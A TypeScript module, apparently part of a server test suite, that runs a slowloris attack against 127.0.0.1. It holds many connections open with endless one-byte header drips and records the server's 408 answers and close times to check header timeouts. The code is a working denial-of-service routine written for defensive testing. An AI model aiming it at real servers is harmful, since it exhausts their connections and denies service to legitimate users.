/**
 * HTTP/1.1 slowloris: many connections, each sending a request head one byte every 2 s and never
 * finishing it. The server should answer 408 and close each once its `headersTimeout` (60 s by
 * default) is up, and meanwhile serve everyone else as before.
 */
import { connect, type Socket } from "node:net";
import { type AttackReport, emptyReport } from "./h2-attack.ts";

const HEAD = "GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ";

/** Hold `count` slowloris connections to 127.0.0.1:`port` for `ms`. */
export async function slowloris(port: number, count: number, ms: number, byteEveryMs = 2000): Promise<AttackReport> {
  const report = emptyReport("slowloris");
  const started = performance.now();
  const sockets: Set<Socket> = new Set();
  const statuses: Record<string, number> = {};
  let lastCloseMs: number | null = null;
  let stopping = false;
  const open = (): Promise<void> =>
    new Promise((resolve) => {
      report.connections++;
      const socket = connect({ host: "127.0.0.1", port, noDelay: true });
      sockets.add(socket);
      let at = 0;
      let answered = false;
      const drip = setInterval(() => {
        // The head never ends: after the prefix, one more `a` of the field value each time.
        socket.write(at < HEAD.length ? HEAD[at++]! : "a");
        report.sent++;
      }, byteEveryMs);
      socket.on("error", () => {});
      socket.once("connect", () => {
        socket.write(HEAD[at++]!);
        report.sent++;
        resolve();
      });
      socket.on("data", (chunk: Uint8Array) => {
        if (answered) return;
        answered = true;
        const status = /^HTTP\/1\.1 (\d{3})/.exec(new TextDecoder().decode(chunk.subarray(0, 12)))?.[1] ?? "other";
        statuses[status] = (statuses[status] ?? 0) + 1;
      });
      socket.on("close", () => {
        clearInterval(drip);
        sockets.delete(socket);
        if (!stopping) {
          report.closedByServer++;
          const t = Math.round(performance.now() - started);
          report.firstCloseMs ??= t;
          lastCloseMs = t;
        }
        resolve();
      });
    });
  // Open them 200 at a time, so the attack itself is no SYN flood.
  let next = 0;
  await Promise.all(Array.from({ length: Math.min(200, count) }, async () => {
    while (next < count) {
      next++;
      await open();
    }
  }));
  report.notes.push(`${count} connections opened in ${Math.round(performance.now() - started)} ms`);
  await new Promise((r) => setTimeout(r, Math.max(0, started + ms - performance.now())));
  stopping = true;
  const stillOpen = sockets.size;
  for (const s of sockets) s.destroy();
  report.notes.push(`answers: ${JSON.stringify(statuses)}; last closed by the server at ${lastCloseMs ?? "—"} ms`);
  report.notes.push(`still open at the end: ${stillOpen}`);
  return report;
}
